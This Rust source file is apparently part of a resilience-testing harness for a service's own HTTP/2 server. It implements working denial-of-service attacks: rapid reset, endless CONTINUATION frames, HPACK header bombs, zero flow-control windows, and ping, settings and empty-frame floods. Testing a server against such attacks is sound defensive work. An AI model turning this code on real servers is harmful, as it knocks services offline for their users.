//! Attacks with HTTP/2 frames that client libraries do not send.

use std::io::Write as _;
use std::time::Duration;

use tallygate_testkit::http2::{
    self, END_HEADERS, END_STREAM, INITIAL_WINDOW_SIZE, Method, frame, kind,
};

use crate::attack::Attempt;
use crate::client::{fill, is_closed, keep_open, open};

/// 50 connections with 250 requests each, for large and small replies, and a flow-control window of 0.
pub(super) fn closed_windows(attempt: &Attempt) {
    let large = br#"{"rate_per_minute":60000,"duration_ms":10000}"#;
    keep_open(attempt, attempt.server.http, 50, |stream| {
        let mut script = http2::hello(&[(INITIAL_WINDOW_SIZE, 0)]);
        for id in 0..250 {
            let (path, body) = if id % 50 == 0 {
                ("/v1/simulate", Some(&large[..]))
            } else {
                ("/openapi.json", None)
            };
            script.extend(http2::request(2 * id + 1, path, body));
        }
        let _ = stream.write_all(&script);
    });
}

/// Requests that are reset at once, at most 10 000 per second and thread.
pub(super) fn rapid_reset(attempt: &Attempt) {
    while attempt.goes_on() {
        let Some(mut stream) = open(attempt.server.http) else { continue };
        let _ = stream.write_all(&http2::hello(&[]));
        for turn in 0_u32.. {
            let mut batch = Vec::new();
            for pair in 0..100 {
                let id = 2 * (100 * turn + pair) + 1;
                let fields = http2::fields(Method::Post, "/v1/check");
                batch.extend(frame(kind::HEADERS, END_HEADERS, id, &fields));
                batch.extend(http2::reset(id));
            }
            std::thread::sleep(Duration::from_millis(10));
            if !attempt.goes_on() || stream.write_all(&batch).is_err() || is_closed(&stream) {
                break;
            }
        }
    }
}

/// Endless heads; a new connection starts when one is closed, at most 500 per second and thread.
pub(super) fn continuation(attempt: &Attempt) {
    let field = [&[0x40, 1, b'x', 126][..], &[b'y'; 126]].concat();
    let piece = if attempt.place == 0 { field.repeat(120) } else { Vec::new() };
    let more = frame(kind::CONTINUATION, 0, 1, &piece);
    while attempt.goes_on() {
        let Some(mut stream) = open(attempt.server.http) else { continue };
        let head = frame(kind::HEADERS, END_STREAM, 1, &http2::fields(Method::Get, "/livez"));
        let _ = stream.write_all(&http2::hello(&[])).and_then(|()| stream.write_all(&head));
        while attempt.goes_on() && stream.write_all(&more).is_ok() {}
        std::thread::sleep(Duration::from_millis(2));
    }
}

/// Heads of a few bytes that decompress to 32 MB, at most 500 per second and thread.
pub(super) fn header_bombs(attempt: &Attempt) {
    let block = http2::bomb();
    while attempt.goes_on() {
        let Some(mut stream) = open(attempt.server.http) else { continue };
        let _ = stream.write_all(&http2::hello(&[]));
        for id in 0.. {
            let bomb = frame(kind::HEADERS, END_HEADERS | END_STREAM, 2 * id + 1, &block);
            std::thread::sleep(Duration::from_millis(2));
            if !attempt.goes_on() || stream.write_all(&bomb).is_err() {
                break;
            }
        }
    }
}

/// 20 connections with pings whose replies are not read.
pub(super) fn pings(attempt: &Attempt) {
    keep_open(attempt, attempt.server.http, 20, |stream| {
        let _ = stream.write_all(&http2::hello(&[]));
        fill(stream, &frame(kind::PING, 0, 0, b"12345678"));
    });
}

/// 500 connections with 100 requests each, whose heads refer to a field of the dynamic table in every byte and whose
/// bodies do not come.
pub(super) fn tiny_fields(attempt: &Attempt) {
    hold_tiny_fields(attempt, 500);
}

/// Connections with heads of tiny fields and without bodies.
pub(super) fn hold_tiny_fields(attempt: &Attempt, connections: usize) {
    let mut script = http2::hello(&[]);
    for id in 0..100 {
        let mut fields = http2::fields(Method::Post, "/v1/check");
        if id == 0 {
            // Adds the field `a` without a value to the table.
            fields.extend_from_slice(&[0x40, 1, b'a', 0]);
        }
        fields.resize(fields.len() + 470, 0xbe);
        script.extend(frame(kind::HEADERS, END_HEADERS, 2 * id + 1, &fields));
    }
    keep_open(attempt, attempt.server.http, connections, |stream| {
        let _ = stream.write_all(&script);
    });
}

/// Settings whose acknowledgments are not read, and empty parts of a body.
pub(super) fn empty_frames(attempt: &Attempt) {
    let empty = match attempt.place {
        0 => frame(kind::SETTINGS, 0, 0, &[]),
        _ => frame(kind::DATA, 0, 1, &[]),
    };
    keep_open(attempt, attempt.server.http, 20, |stream| {
        let _ = stream.write_all(&http2::hello(&[]));
        let _ = stream.write_all(&http2::without_body(1, "/v1/check"));
        fill(stream, &empty);
    });
}
